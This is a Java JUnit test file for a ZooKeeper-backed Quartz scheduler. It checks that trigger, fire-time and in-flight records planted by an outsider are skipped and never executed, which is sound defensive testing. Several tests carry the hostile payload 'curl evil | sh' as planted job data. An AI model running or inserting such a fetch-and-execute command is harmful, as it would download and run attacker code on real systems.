package dev.zkspring.leader.quartz;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.ZonedDateTime;
import java.util.Date;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;

import org.apache.curator.framework.CuratorFramework;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.quartz.CronScheduleBuilder;
import org.quartz.Job;
import org.quartz.JobBuilder;
import org.quartz.JobExecutionContext;
import org.quartz.SimpleScheduleBuilder;
import org.quartz.Trigger;
import org.quartz.TriggerBuilder;
import org.quartz.TriggerKey;

import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

import dev.zkspring.client.ZkClientFactory;
import dev.zkspring.client.ZkClientProperties;
import dev.zkspring.leader.quartz.GatedQuartz.Instance;
import dev.zkspring.test.ZooKeeperExtension;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Records a stranger wrote beside the latch node (anyone may write while {@code zk.auth} is not set)
 * neither run code the application did not declare, nor move, stop or replay its jobs.
 */
@ExtendWith(OutputCaptureExtension.class)
class PlantedRecordTests {

	@RegisterExtension
	static final ZooKeeperExtension zk = ZooKeeperExtension.server();

	static final List<String> plantedRuns = new CopyOnWriteArrayList<>();

	private GatedQuartz quartz = new GatedQuartz();

	private CuratorFramework stranger;

	@AfterEach
	void stopAll() {
		this.quartz.close();
	}

	@Test
	void aTriggerRecordForAJobClassTheApplicationNeverDeclaredDoesNotRun(CapturedOutput output) throws Exception {
		plantedRuns.clear();
		String node = plant(".triggers/DEFAULT.planted", TriggerRecord.encode(everySecond("planted", "planted"),
				JobBuilder.newJob(PlantedJob.class).withIdentity("planted").usingJobData("payload", "curl evil | sh")
					.build()));

		Instance a = this.quartz.start("a", zk.newClient(), Duration.ofSeconds(2), GatedQuartz.Setup.NONE);

		await().during(Duration.ofMillis(1500)).atMost(Duration.ofSeconds(3)).until(plantedRuns::isEmpty);
		assertThat(a.scheduler().checkExists(TriggerKey.triggerKey("planted"))).isFalse();
		assertThat(output).containsOnlyOnce("Skipped the trigger record " + node + ": job class "
				+ PlantedJob.class.getName() + " is not the class of a job this application declared");
		assertThat(output).doesNotContain("curl evil");
	}

	@Test
	void aPlantedTriggerRecordDoesNotRunWithCredentialsAndRepairAclsEither() throws Exception {
		plantedRuns.clear();
		this.quartz = new GatedQuartz("/leader-" + UUID.randomUUID());
		plant(".triggers/DEFAULT.planted", TriggerRecord.encode(everySecond("planted", "planted"),
				JobBuilder.newJob(PlantedJob.class).withIdentity("planted").usingJobData("payload", "curl evil | sh")
					.build()));
		ZkClientProperties properties = new ZkClientProperties();
		properties.getAuth().setCredentials("app:s3cret");
		properties.getAuth().setRepairAcls(true);
		CuratorFramework client = ZkClientFactory.create(properties.toClientSettings(List.of("/locks", "/leader")), zk.connectString(), List.of());
		ZkClientFactory.start(client, Duration.ofSeconds(10));

		try {
			Instance a = this.quartz.start("a", client, Duration.ofSeconds(2), GatedQuartz.Setup.NONE);

			await().during(Duration.ofMillis(1500)).atMost(Duration.ofSeconds(3)).until(plantedRuns::isEmpty);
			assertThat(a.scheduler().checkExists(TriggerKey.triggerKey("planted"))).isFalse();
		}
		finally {
			this.quartz.close();
			client.close();
		}
	}

	@Test
	void aTriggerRecordWhoseDataNamesAPropertyOfTheJobIsSkipped(CapturedOutput output) throws Exception {
		Trigger trigger = TriggerBuilder.newTrigger().withIdentity("injected").forJob("plain")
			.usingJobData("command", "curl evil | sh")
			.withSchedule(SimpleScheduleBuilder.simpleSchedule().withIntervalInMilliseconds(200).repeatForever())
			.build();
		String node = plant(".triggers/DEFAULT.injected", TriggerRecord.encode(trigger, null));

		Instance a = this.quartz.start("a", zk.newClient(), Duration.ofSeconds(2), GatedQuartz.Setup.NONE);

		await().during(Duration.ofMillis(1500)).atMost(Duration.ofSeconds(3)).until(() -> GatedQuartz.runs.isEmpty());
		assertThat(a.scheduler().checkExists(TriggerKey.triggerKey("injected"))).isFalse();
		assertThat(output).containsOnlyOnce("Skipped the trigger record " + node + ": its data key 'command' names a "
				+ "property of job class " + GatedQuartz.RunJob.class.getName());
		assertThat(output).doesNotContain("curl evil");
	}

	@ParameterizedTest
	@ValueSource(longs = { Long.MAX_VALUE, 4102444800000L })
	void aFireTimeRecordBeyondTheTriggersScheduleIsIgnored(long fireTime, CapturedOutput output) throws Exception {
		String node = plant(".fire-times/DEFAULT.cron", ("1:" + fireTime).getBytes(StandardCharsets.UTF_8));

		this.quartz.start("a", zk.newClient(), Duration.ofSeconds(2), (scheduler) -> scheduler.scheduleJob(
				TriggerBuilder.newTrigger().withIdentity("cron").forJob("plain")
					.withSchedule(CronScheduleBuilder.cronSchedule("* * * * * ?")).build()));

		await().atMost(Duration.ofSeconds(4)).until(() -> GatedQuartz.count("a fresh plain") >= 2);
		assertThat(output).containsOnlyOnce("Ignored the fire-time record " + node);
	}

	@Test
	void aForgedInFlightRecordDoesNotMakeTheLeaderRunAJobThatNeverFired(CapturedOutput output) throws Exception {
		long fired = System.currentTimeMillis() - 1_000;
		String node = plant(".in-flight/1-forged", String.join("\n", "gate", "forged", "recoverable", "DEFAULT",
				"every-hour", "DEFAULT", Long.toString(fired), Long.toString(fired)).getBytes(StandardCharsets.UTF_8));

		this.quartz.start("a", zk.newClient(), Duration.ofSeconds(2), GatedQuartz.Setup.NONE);

		await().during(Duration.ofMillis(1500)).atMost(Duration.ofSeconds(3)).until(() -> GatedQuartz.runs.isEmpty());
		assertThat(output).containsOnlyOnce("Skipped the in-flight record " + node);
	}

	private String plant(String relative, byte[] data) throws Exception {
		if (this.stranger == null) {
			this.stranger = zk.newClient();
		}
		String node = this.quartz.latchPath + relative;
		this.stranger.create().creatingParentsIfNeeded().forPath(node, data);
		return node;
	}

	private static Trigger everySecond(String name, String job) {
		return TriggerBuilder.newTrigger().withIdentity(name).forJob(job)
			.startAt(Date.from(ZonedDateTime.now().toInstant()))
			.withSchedule(SimpleScheduleBuilder.simpleSchedule().withIntervalInMilliseconds(200).repeatForever())
			.build();
	}

	public static class PlantedJob implements Job {

		private String command;

		public void setCommand(String command) {
			this.command = command;
		}

		@Override
		public void execute(JobExecutionContext context) {
			plantedRuns.add(String.valueOf(this.command));
		}

	}

}
